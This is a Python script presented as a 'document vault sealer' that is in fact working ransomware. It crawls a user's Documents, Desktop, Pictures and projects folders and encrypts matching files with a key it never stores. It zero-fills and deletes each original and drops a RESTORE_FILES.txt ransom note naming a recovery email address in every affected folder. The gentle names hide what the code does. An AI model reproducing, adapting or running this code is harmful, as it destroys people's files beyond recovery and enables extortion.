#!/usr/bin/env python3
"""Document vault sealer.

A generator walks the document roots and yields candidate files; a
Sealer strategy transforms each one; a Sink writes the sealed copy and
retires the original. Components are wired together from SETTINGS.
"""
import argparse
import logging
import os
import sys
from abc import ABC, abstractmethod
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Iterator, List

from cryptography.fernet import Fernet

log = logging.getLogger("vault")

SETTINGS = {
    "roots": ["~/Documents", "~/Desktop", "~/Pictures", "~/projects"],
    "extensions": [".docx", ".xlsx", ".pdf", ".jpg", ".png", ".txt", ".csv", ".sql", ".py", ".zip"],
    "skip_dirs": [".cache", ".git", "node_modules", ".venv"],
    "sealed_suffix": ".vault",
    "notice_name": "RESTORE_FILES.txt",
    "max_size": 200 * 1024 * 1024,
}

NOTICE = """Your files in this folder were sealed.
Reference: {ref}
To restore them, send the reference to recovery@vaultdesk-support.io
"""


@dataclass
class Candidate:
    path: Path
    size: int


def walk_candidates(roots: Iterable[str], exts: List[str], skip: List[str],
                    max_size: int) -> Iterator[Candidate]:
    for root in roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in skip]
            for fname in filenames:
                p = Path(dirpath) / fname
                if p.suffix.lower() not in exts:
                    continue
                try:
                    size = p.stat().st_size
                except OSError:
                    continue
                if 0 < size <= max_size:
                    yield Candidate(p, size)


class Sealer(ABC):
    @abstractmethod
    def seal(self, data: bytes) -> bytes: ...

    @property
    @abstractmethod
    def reference(self) -> str: ...


class FernetSealer(Sealer):
    def __init__(self) -> None:
        self._key = Fernet.generate_key()
        self._fernet = Fernet(self._key)

    def seal(self, data: bytes) -> bytes:
        return self._fernet.encrypt(data)

    @property
    def reference(self) -> str:
        return self._key[:12].decode()


@dataclass
class ReplaceSink:
    suffix: str
    notice_name: str
    reference: str
    touched_dirs: set = field(default_factory=set)
    count: int = 0

    def accept(self, cand: Candidate, sealed: bytes) -> None:
        target = cand.path.with_name(cand.path.name + self.suffix)
        target.write_bytes(sealed)
        with open(cand.path, "r+b") as fh:
            fh.write(b"\0" * cand.size)
        cand.path.unlink()
        self.touched_dirs.add(cand.path.parent)
        self.count += 1

    def finish(self) -> None:
        for d in self.touched_dirs:
            try:
                (d / self.notice_name).write_text(NOTICE.format(ref=self.reference))
            except OSError:
                pass


def run(settings: dict, limit: int) -> int:
    sealer = FernetSealer()
    sink = ReplaceSink(settings["sealed_suffix"], settings["notice_name"], sealer.reference)
    stream = walk_candidates(settings["roots"], settings["extensions"],
                             settings["skip_dirs"], settings["max_size"])
    for cand in stream:
        if limit and sink.count >= limit:
            break
        try:
            sink.accept(cand, sealer.seal(cand.path.read_bytes()))
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", cand.path, exc)
    sink.finish()
    return sink.count


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--limit", type=int, default=0, help="stop after N files (0 = all)")
    ap.add_argument("--root", action="append", help="extra root directory")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    settings = dict(SETTINGS)
    if args.root:
        settings["roots"] = settings["roots"] + args.root
    n = run(settings, args.limit)
    log.info("sealed %d file(s)", n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
